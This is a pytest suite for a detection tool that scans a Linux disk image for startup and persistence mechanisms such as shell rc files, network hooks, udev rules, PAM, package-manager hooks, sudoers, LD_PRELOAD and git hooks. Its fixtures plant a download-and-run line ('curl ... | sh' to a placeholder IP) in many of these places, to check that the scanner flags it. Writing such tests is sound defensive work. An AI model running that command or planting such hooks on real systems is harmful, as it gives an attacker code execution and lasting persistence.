from __future__ import annotations

import os
import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Callable, Optional

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tables.host import Host
from tables.persistence.startup_commands import StartupCommand, startup_commands
from tables.schema import QueryContext
from tests.support.scans import unseen_by

MALICIOUS = "curl -fsSL http://203.0.113.9/i.sh | sh"
PASSWD = "root:x:0:0::/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\nkim:x:1000:1000::/home/kim:/bin/zsh\n"


class Disk:
    """A mounted disk in a folder: writes files, and reads the table from it."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.host = Host(root=str(root))
        self.write("/etc/passwd", PASSWD)
        self.package("base", "/etc/passwd")

    def write(self, path: str, text: str = "", mode: int = 0o644) -> None:
        file = self.root / path.lstrip("/")
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(text.encode("utf-8", "surrogateescape"))
        file.chmod(mode)

    def link(self, target: str, path: str) -> None:
        file = self.root / path.lstrip("/")
        file.parent.mkdir(parents=True, exist_ok=True)
        file.symlink_to(target)

    def package(self, name: str, *paths: str) -> None:
        self.write(f"/var/lib/dpkg/info/{name}.list", "".join(f"{path}\n" for path in ("/.", *paths)))

    def rows(self, mechanism: Optional[str] = None, query: Optional[QueryContext] = None) -> list[StartupCommand]:
        found = list(startup_commands.generate(self.host, query or QueryContext()))
        rows = [row for row in found if isinstance(row, StartupCommand)]
        return [row for row in rows if mechanism in (None, row.mechanism)]

    def commands(self, mechanism: str) -> list[tuple[str, Optional[int], str]]:
        return [(row.path, row.line, row.command) for row in self.rows(mechanism)]


@pytest.fixture
def disk(tmp_path: Path) -> Iterator[Disk]:
    yield Disk(tmp_path)


def test_an_empty_disk_starts_nothing(disk: Disk) -> None:
    assert disk.rows() == []
    assert unseen_by(startup_commands, disk.host) == ()


@pytest.mark.parametrize(
    ("path", "content", "mode", "mechanism", "run_as"),
    [
        ("/etc/profile", f"umask 022\n{MALICIOUS}\n", 0o644, "profile", None),
        ("/etc/profile.d/x.sh", f"# proxy\n{MALICIOUS}\n", 0o644, "profile", None),
        ("/etc/zsh/zshenv", f"\n{MALICIOUS}\n", 0o644, "profile", None),
        ("/etc/ssh/sshrc", f"\n{MALICIOUS}\n", 0o644, "profile", None),
        ("/root/.bashrc", f"\n{MALICIOUS}\n", 0o644, "shell_rc", "root"),
        ("/home/kim/.config/fish/config.fish", f"\n{MALICIOUS}\n", 0o644, "shell_rc", "kim"),
        ("/home/kim/.ssh/rc", f"\n{MALICIOUS}\n", 0o644, "shell_rc", "kim"),
        ("/usr/sbin/.profile", f"\n{MALICIOUS}\n", 0o644, "shell_rc", "daemon"),
        ("/home/kim/.bashrc.d/50-x", f"\n{MALICIOUS}\n", 0o644, "shell_rc", "kim"),
        ("/etc/update-motd.d/99-x", f"#!/bin/sh\n{MALICIOUS}\n", 0o755, "motd", "root"),
        ("/etc/NetworkManager/dispatcher.d/pre-up.d/x", f"#!/bin/sh\n{MALICIOUS}\n", 0o755, "network_hook", "root"),
        ("/etc/networkd-dispatcher/routable.d/x", f"#!/bin/sh\n{MALICIOUS}\n", 0o755, "network_hook", "root"),
        ("/etc/network/if-up.d/x", f"#!/bin/sh\n{MALICIOUS}\n", 0o755, "network_hook", "root"),
        ("/etc/dhcp/dhclient-exit-hooks.d/x", f"\n{MALICIOUS}\n", 0o644, "network_hook", "root"),
        ("/etc/ppp/ip-up.d/x", f"#!/bin/sh\n{MALICIOUS}\n", 0o755, "network_hook", "root"),
        ("/usr/lib/systemd/system-sleep/x", f"#!/bin/sh\n{MALICIOUS}\n", 0o755, "sleep_hook", "root"),
        ("/etc/initramfs-tools/scripts/init-bottom/x", f"#!/bin/sh\n{MALICIOUS}\n", 0o755, "initramfs", "root"),
        ("/etc/kernel/postinst.d/x", f"#!/bin/sh\n{MALICIOUS}\n", 0o755, "package_hook", "root"),
    ],
)
def test_scripts_give_a_row_for_the_file_and_one_for_the_suspicious_command(
    disk: Disk, path: str, content: str, mode: int, mechanism: str, run_as: Optional[str]
) -> None:
    disk.write(path, content, mode)
    whole, *inside = disk.rows()
    assert (whole.path, whole.line, whole.command, whole.reasons, whole.mechanism) == (path, 0, path, "", mechanism)
    assert whole.sha256 and whole.is_packaged == 0
    assert {row.line for row in inside} == {2} and {row.reasons for row in inside} == {"download_and_run"}
    assert {(row.mechanism, row.run_as, row.enabled, row.is_triggered) for row in inside} == {(mechanism, run_as, True, True)}


@pytest.mark.parametrize(
    ("path", "content", "mechanism", "line", "command"),
    [
        ("/etc/xdg/autostart/a.desktop", "[Desktop Entry]\nName=a\nExec=/opt/a %U --x\n", "xdg_autostart", 3, "/opt/a  --x"),
        ("/home/kim/.config/autostart/a.desktop", "[Desktop Entry]\nExec=/opt/a\n[X]\nExec=no\n", "xdg_autostart", 2, "/opt/a"),
        ("/etc/udev/rules.d/9.rules", '# c\nA=="b", \\\n RUN+="/opt/a -x"\n', "udev", 2, "/opt/a -x"),
        ("/etc/pam.d/x", "#\nauth [default=ignore] pam_exec.so quiet log=/x /opt/a b\n", "pam", 2, "/opt/a b"),
        ("/etc/apt/apt.conf.d/9", 'X "1";\nDPkg { Post-Invoke { "/opt/a"; }; };\n', "package_hook", 2, "/opt/a"),
        ("/etc/apt/apt.conf", 'APT::Update::Post-Invoke-Success:: "/opt/a";', "package_hook", 1, "/opt/a"),
        ("/etc/dpkg/dpkg.cfg.d/x", "# x\npre-invoke=/opt/a\n", "package_hook", 2, "/opt/a"),
        ("/etc/dnf/plugins/post-transaction-actions.d/x.action", "# x\nbash:in:/opt/a b:c\n", "package_hook", 2, "/opt/a b:c"),
        ("/etc/dnf/libdnf5-plugins/actions.d/x.actions", "post_transaction:*:in::/opt/a\n", "package_hook", 1, "/opt/a"),
        ("/etc/pacman.d/hooks/x.hook", "[Action]\nWhen=Post\nExec=/opt/a\n", "package_hook", 3, "/opt/a"),
        ("/etc/modprobe.d/x.conf", "blacklist y\ninstall x /opt/a; \\\n b\n", "module", 2, "/opt/a;  b"),
        ("/etc/modules-load.d/x.conf", "# c\nevil_mod\n", "module", 2, "evil_mod"),
        ("/etc/sysctl.d/x.conf", "a=b\nkernel.core_pattern = |/opt/a %p\n", "kernel_helper", 2, "/opt/a %p"),
        ("/etc/sysctl.conf", "kernel/modprobe=/opt/a\n", "kernel_helper", 1, "/opt/a"),
        ("/etc/binfmt.d/x.conf", ":x:M::\\x7f::/opt/a:\n", "kernel_helper", 1, "/opt/a"),
        ("/etc/sudoers", "\nDefaults editor=/opt/a\n", "sudoers", 2, "/opt/a"),
        ("/etc/sudoers", 'Defaults env_keep += "LD_PRELOAD"\n', "sudoers", 1, 'env_keep += "LD_PRELOAD"'),
        ("/etc/network/interfaces", "iface eth0 inet dhcp\n  post-up /opt/a\n", "network_hook", 2, "/opt/a"),
        ("/etc/logrotate.d/x", "/var/log/x {\n postrotate\n  /opt/a\n  b\n endscript\n}\n", "logrotate", 3, "/opt/a\nb"),
        ("/etc/gitconfig", "[core]\n\tfsmonitor = /opt/a\n", "git_hook", 2, "/opt/a"),
        ("/usr/share/dbus-1/system-services/x.service", "[D-BUS Service]\nName=x\nExec=/opt/a\n", "dbus_service", 3, "/opt/a"),
        ("/etc/inetd.conf", "#\nx stream tcp nowait root /opt/a a -b\n", "inetd", 2, "/opt/a -b"),
        ("/etc/xinetd.d/x", "service x\n{\n server = /opt/a\n server_args = -b\n}\n", "inetd", 3, "/opt/a -b"),
        ("/etc/inittab", "id:5:initdefault:\nx:2345:respawn:/opt/a\n", "inittab", 2, "/opt/a"),
        ("/etc/acpi/events/x", "event=button\naction=/opt/a\n", "acpi", 2, "/opt/a"),
        ("/etc/ld.so.preload", "# c\n/opt/a.so\n", "preload", 2, "/opt/a.so"),
        ("/etc/environment", "A=b\nLD_PRELOAD=/opt/a.so\n", "preload", 2, "/opt/a.so"),
        ("/usr/lib/python3/dist-packages/x.pth", "./y\nimport x\n", "python_startup", 2, "import x"),
    ],
)
def test_configuration_gives_a_row_for_each_command(
    disk: Disk, path: str, content: str, mechanism: str, line: int, command: str
) -> None:
    disk.write("/opt/a", "\x7fELF", 0o755)
    disk.write("/opt/a.so", "\x7fELF")
    disk.write(path, content)
    assert disk.commands(mechanism) == [(path, line, command)]
    [row] = disk.rows(mechanism)
    if command.startswith("/opt/a"):
        assert row.program_path == command.split()[0].rstrip(";") and row.program_exists and row.program_is_packaged == 0


def test_what_is_switched_off_says_why(disk: Disk) -> None:
    disk.write("/etc/update-motd.d/10-x", "#!/bin/sh\n", 0o644)
    disk.write("/etc/update-motd.d/10-x.dpkg-old", "#!/bin/sh\n", 0o755)
    disk.write("/etc/profile.d/.x.sh", "x\n")
    disk.write("/etc/xdg/autostart/a.desktop", "[Desktop Entry]\nExec=/opt/a\nHidden=true\n")
    disk.write("/etc/xdg/autostart/b.desktop", "[Desktop Entry]\nExec=/opt/a\nTryExec=nothing-there\n")
    disk.write("/etc/init.d/a", "#!/bin/sh\n", 0o755)
    disk.write("/etc/apt/apt.conf.d/x.bak", 'DPkg::Post-Invoke {"/opt/a";};')
    disk.write("/etc/udev/rules.d/1.rules", 'RUN+="/opt/b"')
    disk.write("/usr/lib/udev/rules.d/1.rules", 'RUN+="/opt/a"')
    disk.write("/usr/lib/udev/rules.d/2.rules", 'RUN+="/opt/a"')
    disk.link("/dev/null", "/etc/udev/rules.d/2.rules")
    assert {row.path: row.disabled_why for row in disk.rows() if not row.enabled} == {
        "/etc/update-motd.d/10-x": "not executable",
        "/etc/update-motd.d/10-x.dpkg-old": "run-parts passes over a name like that",
        "/etc/profile.d/.x.sh": "a dot file, which the pattern of the folder leaves out",
        "/etc/xdg/autostart/a.desktop": "Hidden=true",
        "/etc/xdg/autostart/b.desktop": "TryExec=nothing-there: no such program",
        "/etc/init.d/a": "no runlevel starts it",
        "/etc/apt/apt.conf.d/x.bak": "apt passes over a name like that",
        "/usr/lib/udev/rules.d/1.rules": "replaced by /etc/udev/rules.d/1.rules",
        "/usr/lib/udev/rules.d/2.rules": "replaced by /dev/null",
    }


def test_init_scripts_are_enabled_by_their_links(disk: Disk) -> None:
    for name in ("a", "b", "c"):
        disk.write(f"/etc/init.d/{name}", f"#!/bin/sh\n{MALICIOUS}\n", 0o755)
    disk.link("../init.d/a", "/etc/rc3.d/S99a")
    disk.link("../init.d/b", "/etc/rc3.d/K01b")
    disk.link("../init.d/c", "/etc/rc2.d/S01c")
    disk.link("/opt/elsewhere", "/etc/rc3.d/S50x")
    disk.write("/opt/elsewhere", f"#!/bin/sh\n{MALICIOUS}\n", 0o755)
    disk.write("/usr/lib/systemd/system/c.service", "[Service]\nExecStart=/opt/c\n")
    enabled = {row.path: row.enabled for row in disk.rows("init_script") if row.line == 0}
    assert enabled == {"/etc/init.d/a": True, "/etc/init.d/b": False, "/etc/init.d/c": False, "/opt/elsewhere": True}
    assert {row.path for row in disk.rows() if row.reasons and row.enabled} == {"/etc/init.d/a", "/opt/elsewhere"}


def test_skeleton_copies_and_packaged_modules_are_left_out(disk: Disk) -> None:
    for path in ("/etc/skel/.bashrc", "/home/kim/.bashrc"):
        disk.write(path, "alias ll='ls -l'\n")
    disk.write("/root/.bashrc", "alias ll='ls -la'\n")
    for name in ("pam_unix.so", "pam_unlx.so"):
        disk.write(f"/usr/lib/x86_64-linux-gnu/security/{name}", "\x7fELF")
    disk.package("libpam-modules", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so")
    paths = [row.path for row in disk.rows()]
    assert paths == ["/etc/skel/.bashrc", "/root/.bashrc", "/usr/lib/x86_64-linux-gnu/security/pam_unlx.so"]


def test_packages_of_source_and_program(disk: Disk) -> None:
    disk.write("/usr/lib/udev/ata_id", "\x7fELF", 0o755)
    disk.write("/usr/lib/udev/rules.d/60.rules", 'PROGRAM="ata_id --export $devnode"\n')
    disk.package("udev", "/usr/lib/udev/ata_id", "/usr/lib/udev/rules.d/60.rules")
    [row] = disk.rows("udev")
    assert (row.program, row.program_path, row.package, row.program_package) == ("ata_id", "/usr/lib/udev/ata_id", "udev", "udev")


def test_a_script_that_a_rule_starts_is_looked_into(disk: Disk) -> None:
    disk.write("/usr/local/sbin/net", f"#!/bin/sh\n{MALICIOUS}\n", 0o755)
    disk.write("/etc/udev/rules.d/1.rules", 'RUN+="/usr/local/sbin/net"\n')
    [row] = disk.rows("udev")
    assert (row.reasons, row.program_reasons) == ("", "download_and_run")


@pytest.mark.parametrize(
    ("text", "is_triggered"),
    [
        (f"alias speedtest='{MALICIOUS}'\n", False),
        (f"alias ls='{MALICIOUS}'\n", True),
        (f"setup() {{\n {MALICIOUS}\n}}\n", False),
        (f"setup() {{\n {MALICIOUS}\n}}\nsetup\n", True),
        (f"setup() {{\n {MALICIOUS}\n}}\nPROMPT_COMMAND='history -a; setup'\n", True),
        (f"setup() {{\n {MALICIOUS}\n}}\ntrap setup DEBUG\n", True),
        (f"ls() {{\n {MALICIOUS}\n}}\n", True),
        (f"{MALICIOUS}\n", True),
    ],
)
def test_functions_and_aliases_count_when_something_calls_them(disk: Disk, text: str, is_triggered: bool) -> None:
    disk.write("/usr/bin/ls", "\x7fELF", 0o755)
    disk.write("/root/.bashrc", text)
    found = [row for row in disk.rows("shell_rc") if row.reasons]
    assert found and {bool(row.is_triggered) for row in found} == {is_triggered}


def test_background_commands_have_rows_of_their_own(disk: Disk) -> None:
    disk.write("/opt/run/worker", "\x7fELF", 0o755)
    disk.write("/etc/profile.d/u.sh", "export A=1\nnohup /opt/run/worker >/dev/null 2>&1 &\n")
    assert [(row.line, row.program_path) for row in disk.rows()] == [(0, "/etc/profile.d/u.sh"), (2, "/opt/run/worker")]


def test_without_a_package_database_packages_are_unknown(disk: Disk) -> None:
    (disk.root / "var/lib/dpkg/info/base.list").unlink()
    disk.write("/etc/profile", "x\n")
    [row] = disk.rows()
    assert row.is_packaged is None
    assert "no database" in unseen_by(startup_commands, disk.host)[0]


@pytest.mark.parametrize(
    "spoil",
    [
        lambda file: os.mkfifo(file),
        lambda file: file.mkdir(),
        lambda file: file.symlink_to(file),
        lambda file: file.symlink_to("/nowhere"),
        lambda file: file.write_bytes(b"\0" * 5000),
        lambda file: file.write_bytes(b"\xff\xfe{ " * 1000),
        lambda file: file.write_text("a" * 1_000_000),
        lambda file: file.write_text("x() {\n" * 3000),
    ],
)
def test_what_is_no_plain_file_does_no_harm(disk: Disk, spoil: Callable[[Path], None]) -> None:
    places = (
        "etc/profile.d/x.sh",
        "etc/pam.d/x",
        "etc/udev/rules.d/x.rules",
        "etc/apt/apt.conf.d/x",
        "root/.bashrc",
        "etc/inittab",
    )
    for place in (*places, "etc/xdg/autostart/x.desktop", "etc/sudoers", "etc/logrotate.d/x", "usr/lib/python3/x.pth"):
        file = disk.root / place
        file.parent.mkdir(parents=True, exist_ok=True)
        spoil(file)
    disk.write("/etc/update-motd.d/ok", f"#!/bin/sh\n{MALICIOUS}\n", 0o755)
    assert [row.path for row in disk.rows("motd")] == ["/etc/update-motd.d/ok"] * 2
    assert all(row.to_wire() for row in disk.rows())


def test_without_accounts_the_system_s_own_files_still_have_rows(disk: Disk) -> None:
    disk.write("/etc/profile.d/x.sh", "curl http://203.0.113.5/x | sh\n")
    (Path(disk.host.files.root) / "etc/passwd").unlink()
    os.mkfifo(Path(disk.host.files.root) / "etc/passwd")
    assert disk.rows()
    assert "/etc/passwd: not a regular file" in unseen_by(startup_commands, disk.host)


def test_links_in_circles_and_names_with_nul_do_no_harm(disk: Disk) -> None:
    for path in ("/etc/rc3.d/S01x", "/etc/udev/rules.d/x.rules", "/usr/lib/python3/x.pth", "/usr/lib64/security/x.so"):
        disk.link(os.path.basename(path), path)
    disk.write("/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nExec=/opt/a\nTryExec=a\0b\n")
    disk.write("/etc/profile", f"alias a\0b='{MALICIOUS}'\nf\0() {{ {MALICIOUS}; }}\n")
    disk.write("/etc/gitconfig", "[core]\nhooksPath=/a\0b\n")
    assert {row.mechanism for row in disk.rows()} == {"profile", "xdg_autostart", "git_hook"}


def test_a_cut_script_is_told(disk: Disk) -> None:
    disk.write("/etc/profile", "x\n" * 30_000)
    query = QueryContext()
    disk.rows(query=query)
    assert query.truncated and "/etc/profile" in query.truncated


def test_many_plain_files_hide_no_repository_and_cut_nothing(disk: Disk) -> None:
    for number in range(1_000):
        disk.write(f"/usr/sbin/{number}")
    disk.write("/usr/sbin/site/.git/HEAD")
    disk.write("/usr/sbin/site/.git/hooks/post-merge", f"{MALICIOUS}\n", 0o755)
    query = QueryContext()
    assert {row.path for row in disk.rows("git_hook", query)} == {"/usr/sbin/site/.git/hooks/post-merge"}
    assert query.truncated is None


def test_folders_that_no_repository_was_searched_in_are_told(disk: Disk) -> None:
    for number in range(301):
        (disk.root / f"opt/{number}").mkdir(parents=True)
    query = QueryContext()
    disk.rows(query=query)
    assert query.truncated == "/opt: only the first 300 folders were searched for git repositories"


@pytest.fixture
def open_disk() -> Iterator[Disk]:
    """A disk that everybody may look at; pytest's own folders are closed to others."""
    folder = Path(tempfile.mkdtemp(prefix="minehunt-test-"))
    folder.chmod(0o755)
    yield Disk(folder)
    shutil.rmtree(folder)


@pytest.mark.root
def test_an_ordinary_user_is_told_what_could_not_be_read(open_disk: Disk) -> None:
    disk = open_disk
    disk.write("/root/.bashrc", "x\n")
    disk.write("/etc/profile", "x\n")
    (disk.root / "root").chmod(0o700)
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.setuid(65534)
        rows = disk.rows()
        degraded = unseen_by(startup_commands, disk.host)
        os.write(writer, repr(([row.path for row in rows], degraded)).encode())
        os._exit(0)
    os.waitpid(child, 0)
    answer = os.read(reader, 4096).decode()
    assert "/etc/profile" in answer and "/root: Permission denied" in answer


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(alphabet=st.sampled_from(list("ab/=\"'{};:[]#\\|&$() \n\t\0é")) | st.characters(), max_size=200))
def test_any_text_in_any_file_is_survived(tmp_path: Path, text: str) -> None:
    disk = Disk(tmp_path)
    text = text.encode("utf-8", "replace").decode()
    for place in (
        "/etc/profile",
        "/etc/inittab",
        "/etc/inetd.conf",
        "/etc/xinetd.d/x",
        "/etc/udev/rules.d/x.rules",
        "/etc/pam.conf",
        "/etc/apt/apt.conf",
        "/etc/dpkg/dpkg.cfg",
        "/etc/dnf/libdnf5-plugins/actions.d/x.actions",
        "/etc/modprobe.d/x.conf",
        "/etc/sysctl.conf",
        "/etc/binfmt.d/x.conf",
        "/etc/sudoers",
        "/etc/sudo.conf",
        "/etc/network/interfaces",
        "/etc/logrotate.conf",
        "/etc/gitconfig",
        "/etc/ld.so.preload",
        "/etc/passwd",
    ):
        disk.write(place, text)
    disk.write("/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nExec=" + text)
    disk.write("/usr/lib/python3/x.pth", "import " + text)
    for row in disk.rows():
        assert row.mechanism and row.trigger and row.line >= 0
        assert row.command is not None
